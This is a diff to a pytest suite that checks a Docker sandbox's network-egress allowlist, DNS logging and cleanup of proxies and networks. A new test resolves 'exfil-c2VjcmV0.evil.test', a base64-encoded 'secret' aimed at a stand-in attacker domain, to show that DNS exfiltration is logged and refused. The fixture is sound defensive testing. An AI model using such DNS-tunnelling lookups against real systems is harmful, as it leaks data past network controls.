@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import contextlib
+import json
 import os
 import signal
 import subprocess
 import sys
 import time
+import uuid
 from pathlib import Path
 
 import docker.errors
@@ -24,7 +26,7 @@ from ..conftest import Cohort
 pytestmark = pytest.mark.docker
 
 FETCH = (
-    "python3 -c \"import sys, urllib.request as u\n"
+    'python3 -c "import sys, urllib.request as u\n'
     "for url in sys.argv[1:]:\n"
     "    try: print(url, u.urlopen(url, timeout=10).read().decode())\n"
     "    except Exception as e: print(url, 'FAILED', e)\" "
@@ -51,7 +53,8 @@ def test_cell_reaches_its_allowlist_and_leaves_nothing(
     cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
 ) -> None:  # type: ignore[no-untyped-def]
     _, ip, port = egress_upstream
-    cohort.task("egress-ok")
+    task = f"egress-ok-{uuid.uuid4().hex[:8]}"  # other runs on the same engine have cells named like ours
+    cohort.task(task)
     urls = f"http://allowed.test:{port}/agent http://unlisted.test:{port}/t http://{ip}:{port}/ip"
     cohort.write(
         subjects=[{"name": "a", "kind": "command", "command": FETCH + urls + " > $MAKA_LOGS_DIR/net.txt"}],
@@ -59,7 +62,7 @@ def test_cell_reaches_its_allowlist_and_leaves_nothing(
         policy={"egress": [f"allowed.test:{port}"]},
     )
     result = cohort.run_subprocess(timeout=300)
-    record = cohort.results()["egress-ok[a-r0]"]
+    record = cohort.results()[f"{task}[a-r0]"]
     assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
     seen = (cohort.out / record["artifacts"]["agent_logs"] / "net.txt").read_text()
     assert seen.count(EGRESS_TOKEN) == 1 and seen.count("403") == 2, seen
@@ -67,15 +70,47 @@ def test_cell_reaches_its_allowlist_and_leaves_nothing(
     assert agent["connections"] == {"allowed": 1, "refused": 2}
     assert set(agent["refused_destinations"]) == {f"unlisted.test:{port}", f"{ip}:{port}"}
     assert record["isolation"]["network"]["agent"] == "allowlist"
-    assert _egress_leftovers(docker_api, "egress-ok") == []
+    assert _egress_leftovers(docker_api, task) == []
+
+
+def test_dns_questions_are_logged_and_bytes_counted(
+    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
+) -> None:  # type: ignore[no-untyped-def]
+    """A name resolved in the container asks the proxy's responder: logged, refused; the resolver is put back."""
+    _, _, port = egress_upstream
+    task = f"egress-dns-{uuid.uuid4().hex[:8]}"
+    cohort.task(task)
+    resolve = (
+        "python3 -c \"import socket\nfor n in ('exfil-c2VjcmV0.evil.test', 'allowed.test'):\n"
+        "    try: print(n, socket.getaddrinfo(n, 80))\n"
+        "    except OSError as e: print(n, 'FAILED', e)\" > $MAKA_LOGS_DIR/dns.txt 2>&1; "
+    )
+    cohort.write(
+        subjects=[{"name": "a", "kind": "command", "command": resolve + FETCH + f"http://allowed.test:{port}/a"}],
+        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
+        policy={"egress": [f"allowed.test:{port}"]},
+    )
+    result = cohort.run_subprocess(timeout=300)
+    record = cohort.results()[f"{task}[a-r0]"]
+    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
+    seen = (cohort.out / record["artifacts"]["agent_logs"] / "dns.txt").read_text()
+    assert seen.count("FAILED") == 2, seen
+    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
+    asked = {e["destination"] for e in events if e["method"] == "DNS" and not e["allowed"]}
+    assert {"exfil-c2VjcmV0.evil.test:53", "allowed.test:53"} <= asked, events
+    (ok,) = [e for e in events if e["allowed"]]
+    assert ok["destination"] == f"allowed.test:{port}" and ok["bytes_in"] > len(EGRESS_TOKEN), ok
+    assert ok["bytes"] == ok["bytes_out"] + ok["bytes_in"]
+    assert _egress_leftovers(docker_api, task) == []
 
 
 def test_ctrl_c_removes_egress_networks_and_proxies(
     cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
 ) -> None:  # type: ignore[no-untyped-def]
     _, _, port = egress_upstream
+    prefix = f"egress-slow-{uuid.uuid4().hex[:8]}"
     for i in range(2):
-        cohort.task(f"egress-slow-{i}", agent_timeout=300)
+        cohort.task(f"{prefix}-{i}", agent_timeout=300)
     cohort.write(
         subjects=[{"name": "a", "kind": "command", "command": FETCH + f"http://allowed.test:{port}/x; sleep 300"}],
         executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
@@ -90,16 +125,16 @@ def test_ctrl_c_removes_egress_networks_and_proxies(
     )
     try:
         deadline = time.monotonic() + 180
-        while len(_egress_leftovers(docker_api, "egress-slow")) < 4 and time.monotonic() < deadline:
+        while len(_egress_leftovers(docker_api, prefix)) < 4 and time.monotonic() < deadline:
             time.sleep(0.2)
-        assert len(_egress_leftovers(docker_api, "egress-slow")) == 4, "two networks and two proxies while running"
+        assert len(_egress_leftovers(docker_api, prefix)) == 4, "two networks and two proxies while running"
         os.killpg(proc.pid, signal.SIGINT)
         out, _ = proc.communicate(timeout=120)
     finally:
         if proc.poll() is None:
             os.killpg(proc.pid, signal.SIGKILL)
             proc.wait()
-    assert _egress_leftovers(docker_api, "egress-slow") == [], out.decode(errors="replace")[-3000:]
+    assert _egress_leftovers(docker_api, prefix) == [], out.decode(errors="replace")[-3000:]
 
 
 def test_docker_cleanup_removes_egress_networks_of_dead_runs(docker_api, state_dir: Path) -> None:  # type: ignore[no-untyped-def]
